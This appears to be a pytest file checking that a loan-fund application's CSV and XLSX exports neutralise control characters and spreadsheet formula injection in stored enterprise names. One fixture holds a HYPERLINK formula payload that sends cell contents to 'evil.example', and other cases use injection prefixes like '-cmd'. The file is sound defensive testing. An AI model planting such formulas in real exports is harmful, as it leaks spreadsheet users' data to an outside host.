"""Issue 25, findings 1 and 3: what is stored is exported as data. An enterprise name with an invisible control
character (a vertical tab) made the list export, the statement workbook and the whole audit pack fail; a name
beginning with ``=`` became a live formula in every .xlsx and .csv. Now each writer shows the control character as its
control picture (␋) and writes a formula-like value as text."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import openpyxl
import pytest

from loanfund.domain.lifecycle import State
from loanfund.extensions import db
from loanfund.services.oversight import blacklist
from loanfund.services.reports import audit_pack
from loanfund.services.reports.safe_text import csv_field, printable
from tests.factories import city_fund_id
from tests.flows import Flows

pytestmark = pytest.mark.both_databases

TABBED = "连云港海润\x0b机械制造有限公司"
FORMULA = '=HYPERLINK("http://evil.example/?"&B4,"海润")'


def rename(flows: Flows, username: str, name: str) -> None:
    """As if stored before the door checked names: straight into the row."""
    enterprise = flows.user(username).enterprise
    enterprise.name = name
    db.session.commit()


@pytest.mark.parametrize(
    ("raw", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+86 138", "'+86 138"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-5.00", "-5.00"),  # an amount stays a number
        ("海润", "海润"),
        ("a\x0bb", "a\u240bb"),
    ],
)
def test_a_csv_field_is_data(raw: str, written: str) -> None:
    assert csv_field(raw) == written


def test_control_characters_are_shown_not_dropped() -> None:
    assert printable("A\x00B\x1fC\x7fD\x85E\tF\nG") == "A\u2400B\u241fC\u2421D\\x85E\tF\nG"


def test_the_list_export_takes_any_stored_name(client, auth, flows: Flows) -> None:  # type: ignore[no-untyped-def]
    flows.to(State.SUBMITTED)
    flows.to(State.SUBMITTED, enterprise="ent2")
    rename(flows, "ent1", TABBED)
    rename(flows, "ent2", FORMULA)
    auth.login("operator")
    response = client.get("/applications/export.xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.data))["申请清单"]
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    names = {c.value: c.data_type for c in cells if "海润" in c.value}
    assert names == {"连云港海润\u240b机械制造有限公司": "s", FORMULA: "s"}  # shown, and text: not a formula


def test_the_statement_and_the_audit_pack_take_any_stored_name(client, auth, flows: Flows, tmp_path) -> None:  # type: ignore[no-untyped-def]
    archived = flows.to(State.ARCHIVED)
    rename(flows, "ent1", TABBED)
    auth.login("operator")
    statement = client.get(f"/applications/{archived.id}/statement.xlsx")
    assert statement.status_code == 200
    packed = audit_pack.build(city_fund_id(), 2026, tmp_path)
    with zipfile.ZipFile(packed.path) as pack:
        assert pack.testzip() is None
        assert any(name.endswith("usage-statement.xlsx") for name in pack.namelist())


def test_the_blacklist_csv_writes_a_formula_as_text(flows: Flows) -> None:
    entry = blacklist.submit_proposal(
        flows.user("operator"), flows.user("ent2").enterprise, "fraud", "骗取", date(2026, 11, 1)
    )
    blacklist.decide(flows.user("group"), entry.id, True, "确认")
    entry.enterprise_name = FORMULA  # as stored before the door checked names
    db.session.commit()
    rows = list(csv.reader(io.StringIO(blacklist.export_csv(city_fund_id()).lstrip("\ufeff"))))
    assert rows[1][1] == "'" + FORMULA
